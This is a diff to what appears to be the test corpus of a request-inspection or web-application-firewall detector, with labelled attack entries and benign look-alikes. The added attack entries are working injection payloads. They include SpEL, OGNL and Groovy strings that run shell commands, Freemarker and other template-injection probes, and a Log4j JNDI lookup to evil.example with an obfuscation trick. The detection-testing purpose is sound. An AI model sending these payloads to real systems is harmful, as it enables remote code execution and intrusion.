@@ -20,6 +20,23 @@ func init() {
 		// content type, Spring Cloud Function's SpEL routing expression.
 		attackEntry{lH, "content-type", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container']))).(#cmd='id').(#p=new java.lang.ProcessBuilder({'/bin/bash','-c',#cmd})).(#p.start())}", "java-injection", 0},
 		attackEntry{lH, "spring.cloud.function.routing-expression", "T(java.lang.Runtime).getRuntime().exec(\"touch /tmp/pwned\")", "java-injection", 0},
+		// SpEL and OGNL name java.lang's classes without the package;
+		// Groovy runs a string or a list.
+		attackEntry{lQ, "expr", "T(Runtime).getRuntime().exec('id')", "java-injection", encAll},
+		attackEntry{lJ, "expr", "*{T(ProcessBuilder)}", "java-injection", 0},
+		attackEntry{lQ, "expr", "@Runtime@getRuntime().exec('id')", "java-injection", encURL},
+		attackEntry{lJ, "script", "\"id\".execute()", "java-injection", 0},
+		attackEntry{lJ, "script", "['sh','-c','id'].execute().text", "java-injection", 0},
+		attackEntry{lJ, "script", "new groovy.lang.GroovyShell().evaluate(x)", "java-injection", 0},
+		// Probes of template engines: Jinja2's string times a number,
+		// OGNL, Freemarker's square brackets, Velocity; Log4j with a
+		// dotless i that Java upper-cases to I.
+		attackEntry{lQ, "name", "{{'7'*7}}", "ssti", encAll},
+		attackEntry{lQ, "name", "%{7*7}", "ssti", encAll},
+		attackEntry{lJ, "name", "[#assign ex='freemarker.template.utility.Execute'?new()]${ex('id')}", "ssti", 0},
+		attackEntry{lJ, "name", "[=992*703]", "ssti", 0},
+		attackEntry{lQ, "name", "#set($a=992*703)$a", "ssti", encURL},
+		attackEntry{lH, "user-agent", "${jnd${upper:ı}:rmi://evil.example/a}", "jndi-lookup", 0},
 		// PHP functions no prose spells this way: any call counts, also
 		// with a junk prefix or as name=(…).
 		attackEntry{lQ, "cb", "call_user_func_array('passthru',array('uname -a'))", "php-injection", encAll},
@@ -112,6 +129,11 @@ func init() {
 		attackEntry{lJ, "Cs7QAFc3IA", "1", "java-injection", 0},
 	)
 	benign = append(benign,
+		// Java code that runs nothing, a price list, a Markdown link.
+		corpusEntry{lJ, "code", "cursor.execute()"},
+		corpusEntry{lJ, "code", "System.out.println(Runtime.version())"},
+		corpusEntry{lQ, "q", "%{name} is %{age} years old"},
+		corpusEntry{lJ, "note", "[=] means equal in the legend"},
 		// Content types as clients send them.
 		corpusEntry{lH, "content-type", "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW"},
 		corpusEntry{lH, "content-type", "application/vnd.api+json; charset=utf-8; profile=\"https://example.com/p\""},
